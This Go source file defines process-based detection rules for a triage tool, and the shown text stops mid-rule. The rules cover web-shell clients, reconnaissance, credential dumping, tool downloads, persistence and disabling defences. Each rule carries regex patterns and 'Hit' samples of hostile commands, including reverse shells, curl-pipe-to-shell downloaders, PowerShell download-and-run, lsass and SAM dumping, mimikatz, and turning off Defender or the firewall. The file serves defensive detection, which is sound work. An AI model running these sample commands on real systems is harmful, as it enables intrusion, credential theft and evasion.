package triage

// Rules over what processes run. Sources are ATT&CK's pages of the techniques and LOLBAS, unless one says more.

const (
	attackBase   = "https://attack.mitre.org/techniques/"
	sourceChop   = "https://attack.mitre.org/software/S0020/"
	sourceCISAWS = "https://media.defense.gov/2020/Jun/09/2002313081/-1/-1/0/CSI-DETECT-AND-PREVENT-WEB-SHELL-MALWARE-20200422.PDF"
)

// A ProcessRule is one detection over the commands that a process runs (see commandsOf). It fires on a command
// whose program is one of Names, if there are any, and whose arguments match Args, if there is a pattern; with
// Whole it reads the whole command line of the process, and what was encoded in it, instead.
type ProcessRule struct {
	ID         string // never reused
	Class      Class  // of a finding that the server is behind; of others it is Other
	Any        Level  // whoever started the process; None if only a server should never run it
	Web        Level  // if a web server, its interpreter or a database started it, directly or through a shell
	Techniques []string
	Why        string
	Source     string

	Names []string // base names without .exe, lower case
	Args  string   // RE2 over the arguments, or the whole line, in lower case and without double quotes
	Self  bool     // only the process itself is asked, not what it tells a shell to run
	Not   string   // RE2 over the same text: what is ordinary
	Whole bool
	Words []string // of which one must be in a whole line, in lower case: it spares Args

	// Hit and Miss are samples: "parent > command line", where the parent is a program or its command line.
	Hit  []string
	Miss []string
}

// ProcessRules returns every rule over processes. The caller may change the slice, not what the rules hold.
func ProcessRules() []ProcessRule {
	out := append([]ProcessRule(nil), shellClientRules...)
	out = append(out, processRules...)
	return append(out, serverRules...)
}

// shellClientRules find the command lines that shell clients make.
var shellClientRules = []ProcessRule{
	{
		ID: "proc-shell-client", Class: WebshellUse, Any: High, Web: Critical, Techniques: []string{"T1505.003", "T1059.003"}, Whole: true,
		Words:  []string{"echo"},
		Args:   `&\s*echo\s+(?:\[s\]|[^&|\s]{1,64})\s*&\s*cd\s*&\s*echo\s+(?:\[e\]|[^&|\s]{1,64})\s*$`,
		Why:    "the frame of a web-shell client: a command between two marks that show it where the answer begins and ends",
		Source: sourceChop,
		Hit: []string{`w3wp.exe > cmd /c cd /d "c:\inetpub\wwwroot\up\"&ipconfig&echo [S]&cd&echo [E]`,
			`java.exe > cmd.exe /c "cd /d "D:/app/web/"&arp -a&echo 5f1c0a&cd&echo 99ab12"`},
		Miss: []string{`w3wp.exe > cmd.exe /c "D:\tools\thumb\resize.bat" 1.jpg 640`, `explorer.exe > cmd /c echo a & echo b`},
	},
	{
		ID: "proc-shell-client-unix", Class: WebshellUse, Any: High, Web: Critical, Techniques: []string{"T1505.003", "T1059.004"}, Whole: true,
		Words:  []string{"pwd"},
		Args:   `;\s*echo\s+[^;|\s]{1,64}\s*;\s*pwd\s*;\s*echo\s+[^;|\s]{1,64}['"]?\s*$`,
		Why:    "the frame of a web-shell client: a command between two marks that show it where the answer begins and ends",
		Source: sourceChop,
		Hit:    []string{`apache2 > sh -c cd "/var/www/html/up/";uname -a;echo [S];pwd;echo [E]`, `php-fpm > /bin/sh -c cd /srv;ls;echo a1b2c3;pwd;echo d4e5f6`},
		Miss:   []string{`sshd > sh -c pwd; echo done`},
	},
}

// processRules are what intruders run. Some of it administrators run too: that has a level for servers only.
var processRules = []ProcessRule{
	// Who and where am I?
	{
		ID: "proc-whoami", Class: RCE, Web: High, Techniques: []string{"T1033"}, Names: []string{"whoami", "quser", "qwinsta"},
		Why: "asks who it runs as or who is signed in", Source: attackBase + "T1033/",
		Hit:  []string{"w3wp.exe > cmd.exe /c whoami", `node C:\app\server.js > cmd.exe /d /s /c "whoami"`, "w3wp.exe > whoami /all"},
		Miss: []string{"cmd.exe > whoami", "explorer.exe > cmd.exe /c whoami"},
	},
	{
		ID: "proc-query-user", Class: RCE, Web: High, Techniques: []string{"T1033"}, Names: []string{"query"}, Args: `^(?:user|session|process)`,
		Why: "asks who is signed in", Source: attackBase + "T1033/",
		Hit: []string{"w3wp.exe > cmd /c query user"}, Miss: []string{"cmd.exe > query user"},
	},
	{
		ID: "proc-id-unix", Class: RCE, Web: Medium, Techniques: []string{"T1033"}, Names: []string{"id", "who", "w", "last", "lastlog", "groups", "logname"},
		Why: "asks who it runs as or who is signed in", Source: attackBase + "T1033/",
		Hit: []string{"apache2 > sh -c id", "php-fpm: pool www > sh -c cd /tmp; id"}, Miss: []string{"bash > id", "sshd > bash -c id"},
	},
	{
		ID: "proc-system-info", Class: RCE, Web: High, Techniques: []string{"T1082"}, Names: []string{"systeminfo", "driverquery", "msinfo32", "ver"},
		Why: "asks what the machine is", Source: attackBase + "T1082/",
		Hit: []string{"w3wp.exe > cmd /c systeminfo"}, Miss: []string{"cmd.exe > systeminfo"},
	},
	{
		ID: "proc-uname", Class: RCE, Web: Medium, Techniques: []string{"T1082"}, Names: []string{"uname", "lsb_release", "hostnamectl"}, Args: `-a\b|^hostnamectl|--all`,
		Why: "asks what the machine is", Source: attackBase + "T1082/",
		Hit: []string{"apache2 > sh -c uname -a"}, Miss: []string{"apache2 > sh -c uname -s", "bash > uname -a"},
	},
	{
		ID: "proc-read-accounts", Class: RCE, Any: Low, Web: High, Techniques: []string{"T1087.001", "T1003.008"}, Whole: true,
		Words: []string{"/etc/"},
		Args:  `(?:cat|head|tail|more|less|tac|nl|cp|grep\s[^|;&]{0,80})\s+[^|;&]{0,80}/etc/(?:shadow|gshadow|master\.passwd|sudoers)|(?:cat|head|tail|more|less|tac|nl)\s+[^|;&]{0,40}/etc/passwd`,
		Why:   "reads the account files", Source: attackBase + "T1087/001/",
		Hit: []string{"httpd > sh -c cat /etc/passwd", "java -jar tomcat.jar > /bin/bash -c cat /etc/shadow"}, Miss: []string{"apache2 > sh -c cat /etc/hostname2"},
	},
	{
		ID: "proc-network-info", Class: RCE, Web: High, Techniques: []string{"T1016", "T1049"}, Names: []string{"ipconfig", "netstat", "arp", "route", "nbtstat", "getmac", "ifconfig", "pathping", "tracert"},
		Why: "asks how the machine is connected, and to whom", Source: attackBase + "T1016/",
		Hit: []string{"w3wp.exe > cmd.exe /c ipconfig /all", "sqlservr.exe > cmd.exe /c netstat -an"}, Miss: []string{"cmd.exe > netstat -ano", "services.exe > ipconfig /registerdns"},
	},
	{
		ID: "proc-network-info-unix", Class: RCE, Web: Medium, Techniques: []string{"T1016", "T1049"}, Names: []string{"ip", "ss", "iptables", "nslookup", "dig", "host"}, Args: `^(?:-|a\b|addr|route|r\b|link|neigh|[a-z0-9])`,
		Why: "asks how the machine is connected, and to whom", Source: attackBase + "T1016/",
		Hit: []string{"php-fpm > sh -c ip addr", "w3wp.exe > cmd /c nslookup intranet"}, Miss: []string{"bash > ip addr"},
	},
	{
		ID: "proc-tasklist", Class: RCE, Web: High, Techniques: []string{"T1057"}, Names: []string{"tasklist", "qprocess"},
		Why: "lists the processes", Source: attackBase + "T1057/",
		Hit: []string{"w3wp.exe > cmd /c tasklist /svc"}, Miss: []string{"cmd.exe > tasklist"},
	},
	{
		ID: "proc-ps-unix", Class: RCE, Web: Low, Techniques: []string{"T1057"}, Names: []string{"ps", "hostname", "env", "printenv", "set", "df", "mount", "lsof", "uptime"},
		Why: "asks about the machine, as monitors do too", Source: attackBase + "T1057/",
		Hit: []string{"apache2 > sh -c ps aux"}, Miss: []string{"bash > ps aux"},
	},
	{
		ID: "proc-net-accounts", Class: RCE, Web: High, Techniques: []string{"T1087", "T1069"}, Names: []string{"net", "net1"}, Args: `^(?:user|group|localgroup|accounts|view|share|session|use|start|time|config)\b`, Not: `/add|/active`,
		Why: "lists accounts, groups or shares", Source: attackBase + "T1087/",
		Hit: []string{"w3wp.exe > cmd /c net localgroup administrators", "w3wp.exe > net user"}, Miss: []string{"cmd.exe > net user"},
	},
	{
		ID: "proc-domain-info", Class: RCE, Any: Low, Web: High, Techniques: []string{"T1482", "T1018"}, Whole: true,
		Words: []string{"nltest", "dsquery", "adfind", "trustdmp", "objectc", "net ", "net1", "net.exe", "get-ad", "hound"},
		Args:  `\bnltest\b.{0,80}/(?:dclist|domain_trusts|trusted_domains|dsgetdc|all_trusts)|\bdsquery\b|\badfind\b|-gcb\s+-sc\s+trustdmp|objectclass=trusteddomain|objectcategory=(?:person|computer)|\bnet1?(?:\.exe)?\s+(?:group|user|view|accounts)\b.{0,120}/do(?:main)?\b|get-ad(?:user|computer|group|trust)|\bbloodhound|\bsharphound`,
		Why:   "explores the domain", Source: attackBase + "T1482/",
		Hit: []string{"cmd.exe > nltest /domain_trusts", "cmd.exe > net group \"Domain Admins\" /domain", "w3wp.exe > cmd /c nltest /dclist:corp"}, Miss: []string{"cmd.exe > net user", "services.exe > nltest /sc_query:corp"},
	},
	{
		ID: "proc-list-files", Class: RCE, Web: Medium, Techniques: []string{"T1083"}, Names: []string{"dir", "ls", "type", "tree", "where", "cat", "more", "findstr", "pwd", "gc", "get-content", "get-childitem", "gci", "head", "tail"},
		Not: `/proc/(?:cpuinfo|meminfo|loadavg|version|uptime)|^(?:-p\s+)?(?:convert|php|composer|git|node|ffmpeg|gs|magick|python3?|java|wkhtmltopdf|bun|npm)\s*$|/etc/(?:os-release|\*?-?release|issue|timezone)`,
		Why: "lists folders or reads files through a shell, which an application does by itself", Source: attackBase + "T1083/",
		Hit: []string{`w3wp.exe > cmd /c dir c:\windows\temp`, `php-cgi.exe > cmd.exe /c type web.config`, "nginx > sh -c ls -la /var/www"}, Miss: []string{"apache2 > sh -c cat /proc/cpuinfo", `explorer.exe > cmd /c dir c:\`},
	},
	{
		ID: "proc-search-secrets", Class: RCE, Any: Low, Web: High, Techniques: []string{"T1552.001", "T1552.006"}, Whole: true,
		Words: []string{"findstr", "grep", "find", "unattend", "applicationhost", "appcmd", "sysvol"},
		Args:  `findstr\b.{0,80}(?:cpassword|password|passwd|connectionstring)|\bgrep\b.{0,60}(?:passw|secret|api_?key)|find\s+/\S*.{0,60}(?:-perm\s+[-/]?[0-9u+=s]*[4u]|id_rsa|\.htpasswd|wp-config)|unattend(?:ed)?\.xml|applicationhost\.config|appcmd\S*\s+list\s+(?:apppool|vdir|site)\S*.{0,60}(?:/text|/config|password)|\\sysvol\\`,
		Why:   "searches for passwords and keys", Source: attackBase + "T1552/001/",
		Hit: []string{`cmd.exe > findstr /S cpassword \\dc1\sysvol\*.xml`, "apache2 > sh -c find / -perm -4000 -type f"}, Miss: []string{"cmd.exe > findstr error app.log"},
	},
	{
		ID: "proc-wmic-query", Class: RCE, Web: High, Techniques: []string{"T1047"}, Names: []string{"wmic"}, Not: `process\s+call\s+create|/node:|shadowcopy`,
		Why: "asks WMI about the machine", Source: attackBase + "T1047/",
		Hit: []string{"w3wp.exe > cmd /c wmic qfe list"}, Miss: []string{"cmd.exe > wmic os get caption"},
	},
	{
		ID: "proc-reg-query", Class: RCE, Web: Medium, Techniques: []string{"T1012"}, Names: []string{"reg"}, Args: `^query`,
		Why: "reads the registry", Source: attackBase + "T1012/",
		Hit: []string{`w3wp.exe > cmd /c reg query hklm\software`}, Miss: []string{`cmd.exe > reg query hklm\software`},
	},
	{
		ID: "proc-security-products", Class: RCE, Any: Low, Web: High, Techniques: []string{"T1518.001"}, Whole: true,
		Words: []string{"securitycenter", "get-mp", "fltmc", "tasklist"},
		Args:  `securitycenter2?\s*.{0,40}antivirusproduct|get-mpcomputerstatus|fltmc(?:\.exe)?\s|tasklist.{0,40}findstr.{0,20}(?:virus|defend|edr)`,
		Why:   "asks which security products there are", Source: attackBase + "T1518/001/",
		Hit: []string{`powershell.exe > wmic /namespace:\\root\securitycenter2 path antivirusproduct get displayname`}, Miss: []string{"cmd.exe > tasklist"},
	},

	// Credentials.
	{
		ID: "proc-lsass-dump", Class: RCE, Any: High, Web: Critical, Techniques: []string{"T1003.001"}, Whole: true,
		Words: []string{"procdump", "comsvcs", "lsass", "sqldumper", "rdrleakdiag", "nanodump"},
		Args:  `procdump\S*\s.{0,120}lsass|comsvcs(?:\.dll)?\W.{0,20}(?:minidump|#\+?24|#-?65512)|lsass\S{0,40}\.dmp|sqldumper\S*\s.{0,60}0x0?110|rdrleakdiag\b.{0,60}/fullmemdmp|createdump\b.{0,60}lsass|nanodump|\btaskmgr\b.{0,20}lsass`,
		Why:   "dumps the memory of lsass, which holds credentials", Source: attackBase + "T1003/001/",
		Hit:  []string{"cmd.exe > procdump64.exe -accepteula -ma lsass.exe l.dmp", `w3wp.exe > cmd /c rundll32.exe c:\windows\system32\comsvcs.dll, MiniDump 612 c:\windows\temp\a.bin full`},
		Miss: []string{"cmd.exe > procdump -ma w3wp.exe", "cmd.exe > rundll32 shell32.dll,Control_RunDLL"},
	},
	{
		ID: "proc-mimikatz", Class: RCE, Any: High, Web: Critical, Techniques: []string{"T1003", "S0002"}, Whole: true,
		Words: []string{"::", "mimikatz", "dump", "wce", "lazagne", "rubeus"},
		Args:  `sekurlsa::|lsadump::|kerberos::(?:golden|ptt|list)|privilege::debug|token::elevate|\bmimikatz\b|invoke-mimikatz|dpapi::|\bgsecdump\b|\bpwdump\d?\b|\bwce(?:64)?\.exe\s+-[wlo]\b|\blazagne\b|\brubeus\b.{0,60}(?:asktgt|kerberoast|dump|s4u)`,
		Why:   "a tool that reads credentials from memory", Source: "https://attack.mitre.org/software/S0002/",
		Hit: []string{"cmd.exe > m.exe privilege::debug sekurlsa::logonpasswords exit"}, Miss: []string{"cmd.exe > notepad readme.txt"},
	},
	{
		ID: "proc-sam-save", Class: RCE, Any: High, Web: Critical, Techniques: []string{"T1003.002", "T1003.004"}, Whole: true,
		Words: []string{"reg", "shadowcopy", "@gmt", "config"},
		Args:  `\breg(?:\.exe)?\s+(?:save|export)\s+(?:hklm|hkey_local_machine)\\(?:sam|system|security)\b|(?:copy|esentutl|print|type|xcopy|robocopy)\b.{0,160}(?:harddiskvolumeshadowcopy|@gmt-|config\\(?:sam|security|system)\b)`,
		Why:   "copies the registry hives that hold password hashes", Source: attackBase + "T1003/002/",
		Hit: []string{`cmd.exe > reg save hklm\sam c:\windows\temp\s.hiv`}, Miss: []string{`cmd.exe > reg save hkcu\software\x x.hiv`},
	},
	{
		ID: "proc-ntds", Class: RCE, Any: High, Web: Critical, Techniques: []string{"T1003.003"}, Whole: true,
		Words: []string{"ntds", "secretsdump", "dcsync"},
		Args:  `\bntdsutil\b.{0,120}(?:ifm|ac(?:tivate)?\s+i(?:ns(?:tance)?)?\s+ntds)|ntds\.dit|\bsecretsdump\b|dcsync`,
		Why:   "copies the domain's database of accounts", Source: attackBase + "T1003/003/",
		Hit: []string{`cmd.exe > ntdsutil "ac i ntds" ifm "create full c:\temp\x" q q`}, Miss: []string{"cmd.exe > ntdsutil ?"},
	},

	// Bringing tools in.
	{
		ID: "proc-certutil", Class: RCE, Any: Medium, Web: Critical, Techniques: []string{"T1105", "T1140"}, Names: []string{"certutil"}, Args: `[-/](?:urlcache|verifyctl|url)\b.{0,40}(?:https?|ftp):|[-/](?:decode|decodehex|encode|encodehex)\b|[-/]syncwithwu`,
		Why: "certutil downloads or decodes a file", Source: "https://lolbas-project.github.io/lolbas/Binaries/Certutil/",
		Hit: []string{"cmd.exe > certutil.exe -urlcache -split -f http://192.0.2.7/a.exe a.exe", "cmd.exe > certutil -decode a.txt a.exe"}, Miss: []string{"cmd.exe > certutil -hashfile a.exe SHA256"},
	},
	{
		ID: "proc-bitsadmin", Class: RCE, Any: Medium, Web: Critical, Techniques: []string{"T1197", "T1105"}, Names: []string{"bitsadmin"}, Args: `/(?:transfer|addfile|setnotifycmdline|create)`,
		Why: "BITS downloads a file or keeps a command", Source: "https://lolbas-project.github.io/lolbas/Binaries/Bitsadmin/",
		Hit: []string{`cmd.exe > bitsadmin /transfer n http://192.0.2.7/a.exe c:\a.exe`}, Miss: []string{"cmd.exe > bitsadmin /list"},
	},
	{
		ID: "proc-ps-download", Class: RCE, Any: Medium, Web: Critical, Techniques: []string{"T1059.001", "T1105"}, Whole: true,
		Words: []string{"iex", "invoke", "webclient", "bitstransfer", "-outfile", "irm", "iwr"},
		Args:  `(?:\biex\b|invoke-expression|\.invoke\().{0,300}(?:downloadstring|downloaddata|invoke-webrequest|invoke-restmethod|\biwr\b|\birm\b|net\.webclient)|(?:downloadstring|downloaddata|\birm\b|\biwr\b|invoke-webrequest|invoke-restmethod).{0,300}(?:\biex\b|invoke-expression)|net\.webclient\)?\.download(?:string|file|data)|start-bitstransfer|(?:invoke-webrequest|\biwr\b|wget|curl).{0,200}-outfile`,
		Why:   "PowerShell downloads something, or runs what it downloads", Source: attackBase + "T1059/001/",
		Hit: []string{`cmd.exe > powershell -nop -c "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')"`, `cmd.exe > powershell -c "irm example.test/i.ps1|iex"`}, Miss: []string{`svchost.exe > powershell.exe -NoProfile -File C:\Scripts\backup.ps1`},
	},
	{
		ID: "proc-fetch", Class: RCE, Web: High, Techniques: []string{"T1105"}, Names: []string{"wget", "curl", "tftp", "ftp", "fetch", "lwp-download", "ftpget", "aria2c", "finger", "desktopimgdownldr", "esentutl", "expand", "extrac32", "scp", "iwr"},
		Args: `(?:https?|ftp)://|\\\\|-s:|\b\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}\b|@`, Not: `//(?:localhost|127\.0\.0\.1|\[::1\])(?:[:/]|\s|$)[^;|&]*$`,
		Why: "downloads a file", Source: attackBase + "T1105/",
		Hit: []string{"apache2 > sh -c wget http://192.0.2.7/x -O /tmp/x", `w3wp.exe > cmd /c curl -o c:\windows\temp\a.exe http://192.0.2.7/a.exe`}, Miss: []string{"bash > curl https://example.test/", "php-fpm > sh -c curl -s http://127.0.0.1:9200/_cat"},
	},
	{
		ID: "proc-fetch-run", Class: RCE, Any: Medium, Web: Critical, Techniques: []string{"T1105", "T1059.004"}, Whole: true,
		Words: []string{"wget", "curl", "fetch", "lwp-download"},
		Args:  `(?:wget|curl|fetch|lwp-download)\b[^|;]{0,300}\|\s*(?:sudo\s+)?(?:/\S{0,40}/)?(?:ba|da|z|k)?sh\b|(?:wget|curl)\b.{0,300}(?:;|&&)\s*(?:chmod\s+\S{0,20}\s*\S+\s*(?:;|&&)\s*)?(?:sh|bash|\./\S|/tmp/|/dev/shm/|/var/tmp/)`,
		Why:   "downloads something and runs it at once", Source: attackBase + "T1105/",
		Hit: []string{"apache2 > sh -c curl -fsSL http://192.0.2.7/x.sh|sh", "sh > sh -c wget -q http://192.0.2.7/k -O /tmp/k; chmod +x /tmp/k; /tmp/k"}, Miss: []string{"bash > curl -s https://example.test/ -o page.html"},
	},
	{
		ID: "proc-remote-script", Class: RCE, Any: Medium, Web: Critical, Techniques: []string{"T1218"}, Names: []string{"mshta", "regsvr32", "rundll32", "msiexec", "cmstp", "hh", "control", "installutil", "regasm", "regsvcs", "msbuild", "xwizard"},
		Args: `(?:https?|ftp)://|\\\\\d{1,3}\.\d|javascript:|vbscript:|scrobj|\\(?:users\\public|windows\\temp|programdata|perflogs)\\[^\\]+$`,
		Why:  "a program of Windows runs a script or library from elsewhere", Source: attackBase + "T1218/",
		Hit: []string{"cmd.exe > mshta http://192.0.2.7/a.hta", "cmd.exe > regsvr32 /s /n /u /i:http://192.0.2.7/a.sct scrobj.dll"}, Miss: []string{"svchost.exe > rundll32.exe c:\\windows\\system32\\shell32.dll,Control_RunDLL"},
	},
	{
		ID: "proc-encoded", Class: RCE, Any: Low, Web: Critical, Techniques: []string{"T1027.010", "T1059.001"}, Names: []string{"powershell", "pwsh"},
		Args: `(?:^|\s)[-/\x{2013}\x{2014}]e(?:c|nc?|nco[a-z]*)?\s+[a-z0-9+/=]{16,}|frombase64string`,
		Why:  "an encoded PowerShell command", Source: attackBase + "T1027/010/",
		Hit: []string{"w3wp.exe > powershell -nop -w hidden -enc dwBoAG8AYQBtAGkAIAAvAGEAbABsAA=="}, Miss: []string{`svchost.exe > powershell.exe -ExecutionPolicy RemoteSigned -File C:\Scripts\backup.ps1`},
	},
	{
		ID: "proc-base64-shell", Class: RCE, Any: Medium, Web: Critical, Techniques: []string{"T1027", "T1140"}, Whole: true,
		Words: []string{"base64", "b64decode"},
		Args:  `base64[\s,]+-{1,2}d\w*\}?.{0,80}\|\s*\{?(?:/\S{0,20}/)?(?:ba|da|z)?sh\b|base64[\s,]+-{1,2}d\w*\}?.{0,80}\|\s*\{?(?:python|perl|php)|exec\(.{0,40}b64decode|eval\(.{0,40}base64_decode`,
		Why:   "decodes base64 and runs it", Source: attackBase + "T1140/",
		Hit: []string{"java > bash -c {echo,aWQgLWEgJiYgdW5hbWU=}|{base64,-d}|{bash,-i}", "apache2 > sh -c echo aWQgLWEgJiYgdW5hbWU=|base64 -d|sh"}, Miss: []string{"bash > base64 -d key.b64"},
	},
	{
		ID: "proc-reverse-shell", Class: RCE, Any: High, Web: Critical, Techniques: []string{"T1059", "T1095"}, Whole: true,
		Words: []string{"/dev/tcp", "/dev/udp", "nc", "netcat", "mkfifo", "socat", "socket", "pty.spawn", "fsockopen", "powercat"},
		Args:  `/dev/(?:tcp|udp)/|\b(?:nc|ncat|netcat)(?:\.exe|\.traditional|\.openbsd|64\.exe)?\s+(?:\S+\s+){0,6}-[a-z]*[ec]\s*(?:/bin/|cmd|powershell|sh\b|bash)|mkfifo\s.{0,120}\|\s*(?:nc|ncat|netcat|openssl|telnet)\b|socat\b.{0,120}exec:|(?:python\d?(?:\.\d+)?|perl|ruby|php|lua)\S*\s+-[a-z]*[cer]\s.{0,300}(?:socket|fsockopen|tcpsocket).{0,300}(?:dup2|exec|/bin/|sh\b|cmd)|pty\.spawn|net\.sockets\.tcpclient|powercat`,
		Why:   "a shell whose input and output go over the network", Source: attackBase + "T1059/",
		Hit: []string{"apache2 > sh -c bash -i >& /dev/tcp/192.0.2.7/443 0>&1", "w3wp.exe > cmd /c nc.exe 192.0.2.7 443 -e cmd.exe", "php > sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 192.0.2.7 443 >/tmp/f"}, Miss: []string{"bash > nc -zv db1 3306"},
	},
	{
		ID: "proc-write-script", Class: WebshellUse, Any: Low, Web: Critical, Techniques: []string{"T1505.003"}, Whole: true,
		Words: []string{".as", ".cer", ".jsp", ".ph", ".cf", ".shtml", ".war"},
		Args:  `(?:>|\b(?:copy|move|ren|rename|xcopy|cp|mv|tee|curl\s.{0,200}-o|wget\s.{0,200}-o|-outfile|set-content|out-file))\s+[^|;&]{0,300}\.(?:aspx?|ashx|asmx|asa|cer|jspx?|jspf|php\d?|phtml|phar|cfm|cfc|shtml|war)['"]?(?:\s|$)`,
		Why:   "writes a script that the server would run", Source: attackBase + "T1505/003/",
		Hit: []string{`w3wp.exe > cmd /c echo ^<%x%^> > c:\inetpub\wwwroot\a.aspx`, "apache2 > sh -c cp /tmp/a /var/www/html/b.php"}, Miss: []string{`explorer.exe > cmd /c copy a.jpg b.jpg`},
	},

	// Staying.
	{
		ID: "proc-add-user", Class: RCE, Any: Low, Web: Critical, Techniques: []string{"T1136"}, Whole: true,
		Words: []string{"net", "useradd", "adduser", "localuser"},
		Args:  `\bnet1?(?:\.exe)?\s+user\s.{0,200}/add\b|\buseradd\b|\badduser\b|new-localuser`,
		Why:   "makes an account", Source: attackBase + "T1136/",
		Hit: []string{"w3wp.exe > cmd /c net user support$ Passw0rd! /add", "bash > useradd -o -u 0 sys"}, Miss: []string{"cmd.exe > net user"},
	},
	{
		ID: "proc-add-admin", Class: RCE, Any: Medium, Web: Critical, Techniques: []string{"T1098.007"}, Whole: true,
		Words: []string{"net", "localgroup", "usermod", "specialaccounts"},
		Args:  `\bnet1?(?:\.exe)?\s+(?:localgroup|group)\s+.{0,120}(?:admin|remote desktop|backup operators).{0,120}/add\b|add-localgroupmember.{0,120}admin|usermod\s.{0,60}-[ag]{1,2}g?\s+(?:sudo|wheel|root)|specialaccounts\\userlist`,
		Why:   "gives an account power over the machine, or hides one", Source: attackBase + "T1098/007/",
		Hit: []string{"w3wp.exe > net localgroup administrators support$ /add"}, Miss: []string{"cmd.exe > net localgroup administrators"},
	},
	{
		ID: "proc-schtasks", Class: RCE, Web: Critical, Techniques: []string{"T1053.005"}, Names: []string{"schtasks", "at", "crontab"}, Args: `/create|/change|^\d{1,2}:\d\d|\\\\|^-\s*$|/tmp|-e\b`,
		Why: "plans a task", Source: attackBase + "T1053/",
		Hit: []string{`w3wp.exe > cmd /c schtasks /create /tn upd /tr c:\windows\temp\a.exe /sc minute`}, Miss: []string{`cmd.exe > schtasks /create /tn backup /tr c:\scripts\b.cmd /sc daily`},
	},
	{
		ID: "proc-schtasks-query", Class: RCE, Web: High, Techniques: []string{"T1053.005"}, Names: []string{"schtasks", "crontab"}, Args: `^/query|^-l|^$`,
		Why: "lists the planned tasks", Source: attackBase + "T1053/005/",
		Hit: []string{"w3wp.exe > cmd /c schtasks /query"}, Miss: []string{"cmd.exe > schtasks /query"},
	},
	{
		ID: "proc-schtasks-odd", Class: RCE, Any: Medium, Web: Critical, Techniques: []string{"T1053.005"}, Whole: true,
		Words: []string{"schtasks"},
		Args:  `\bschtasks(?:\.exe)?\s.{0,20}/create\b.{0,400}(?:\\users\\public\\|\\temp\\|\\appdata\\|\\programdata\\|-enc|-e\s|mshta|http://|https://|frombase64|rundll32|regsvr32|wscript|cscript)`,
		Why:   "plans a task that runs from a folder anyone can write to, or something encoded", Source: attackBase + "T1053/005/",
		Hit: []string{`cmd.exe > schtasks /create /sc onlogon /tn u /tr c:\users\public\u.exe`}, Miss: []string{`cmd.exe > schtasks /create /tn backup /tr c:\scripts\b.cmd /sc daily`},
	},
	{
		ID: "proc-service", Class: RCE, Web: Critical, Techniques: []string{"T1543.003"}, Names: []string{"sc", "nssm", "instsrv", "new-service"}, Args: `create|config|install|start|^\\\\`,
		Why: "makes or changes a service", Source: attackBase + "T1543/003/",
		Hit: []string{`w3wp.exe > sc create upd binpath= c:\windows\temp\a.exe`}, Miss: []string{"cmd.exe > sc query"},
	},
	{
		ID: "proc-run-key", Class: RCE, Any: Low, Web: Critical, Techniques: []string{"T1547.001", "T1546"}, Whole: true,
		Words: []string{"reg", "currentversion"},
		Args:  `\breg(?:\.exe)?\s+add\b.{0,200}(?:currentversion\\run(?:once)?\b|winlogon|image file execution options|\\shell folders|user shell folders|silentprocessexit|appinit_dlls)|set-itemproperty.{0,200}currentversion\\run`,
		Why:   "has something run at every start or sign-in", Source: attackBase + "T1547/001/",
		Hit: []string{`cmd.exe > reg add hkcu\software\microsoft\windows\currentversion\run /v a /d c:\a.exe /f`}, Miss: []string{`cmd.exe > reg add hkcu\software\x /v a /d 1`},
	},
	{
		ID: "proc-unix-persist", Class: RCE, Any: Low, Web: Critical, Techniques: []string{"T1098.004", "T1053.003", "T1548.001"}, Whole: true,
		Words: []string{">", "crontab", "chmod", "chattr", "setcap"},
		Args:  `>>?\s*\S{0,80}(?:authorized_keys|/etc/(?:cron|ld\.so\.preload|rc\.local|profile|passwd)|/var/spool/cron|\.bashrc)|\|\s*crontab\b|chmod\s+(?:[0-7]?[4-7][0-7]{3}|[ugo]*\+[rwx]*s)\b|chattr\s+\+i|setcap\s+cap_setuid`,
		Why:   "leaves a way back in: a key, a planned job, a program with the right to become root", Source: attackBase + "T1098/004/",
		Hit: []string{"apache2 > sh -c echo ssh-rsa AAAA >> /root/.ssh/authorized_keys", "sh > chmod 4755 /tmp/.x"}, Miss: []string{"bash > chmod 755 a.sh"},
	},

	// Defence evasion.
	{
		ID: "proc-log-clear", Class: RCE, Any: Medium, Web: Critical, Techniques: []string{"T1070.001", "T1070.003"}, Whole: true,
		Words: []string{"wevtutil", "eventlog", "history", "histfile", "/var/log", "logfiles", "fsutil"},
		Args:  `\bwevtutil(?:\.exe)?\s+(?:cl|clear-log)\b|clear-eventlog|remove-eventlog|\bwmic\b.{0,60}nteventlog.{0,40}cleareventlog|history\s+-c\b|unset\s+histfile|histfile=/dev/null|\b(?:rm|shred|truncate|del|erase)\b[^|;&]{0,160}(?:/var/log/|\\logfiles\\w3svc|\.bash_history)|>\s*/var/log/|fsutil\s+usn\s+deletejournal`,
		Why:   "clears logs or traces", Source: attackBase + "T1070/001/",
		Hit: []string{"cmd.exe > wevtutil cl Security", "apache2 > sh -c rm -rf /var/log/apache2/access.log"}, Miss: []string{"cmd.exe > wevtutil qe System /c:1"},
	},
	{
		ID: "proc-defences-off", Class: RCE, Any: Medium, Web: Critical, Techniques: []string{"T1562.001", "T1562.004"}, Whole: true,
		Words: []string{"mppreference", "sc ", "sc.exe", "netsh", "disable", "amsienable", "autologger", "setenforce", "systemctl", "iptables", "eventlog", "wdigest"},
		Args:  `set-mppreference\s.{0,120}(?:-disable|-exclusion)|add-mppreference\s.{0,60}-exclusion|msft_mppreference.{0,60}add|\bsc(?:\.exe)?\s+(?:stop|delete|config)\s+(?:windefend|mpssvc|sense|wdnissvc|sysmon)|netsh\s.{0,40}(?:firewall\s+set\s+opmode|advfirewall\s+set\s.{0,40}state\s+off)|disable-feature.{0,40}windows-defender|(?:disableantispyware|disablerealtimemonitoring|amsienable|autologger\\)|setenforce\s+0|systemctl\s+(?:stop|disable)\s+(?:auditd|iptables|firewalld|ufw)|iptables\s+-f\b|/name\s+eventlog|\bwdigest\b.{0,60}uselogoncredential`,
		Why:   "turns protection off", Source: attackBase + "T1562/001/",
		Hit: []string{"cmd.exe > powershell Set-MpPreference -DisableRealtimeMonitoring $true", "cmd.exe > netsh advfirewall set allprofiles state off"}, Miss: []string{"cmd.exe > netsh interface show interface"},
	},
	{
		ID: "proc-shadow-delete", Class: RCE, Any: High, Web: Critical, Techniques: []string{"T1490"}, Whole: true,
		Words: []string{"vssadmin", "shadowcopy", "wbadmin", "bcdedit", "cipher"},
		Args:  `vssadmin(?:\.exe)?\s+(?:delete|resize)|shadowcopy\s+delete|wbadmin\s+delete|bcdedit(?:\.exe)?\s.{0,60}recoveryenabled\s+no|\bcipher(?:\.exe)?\s+/w:`,
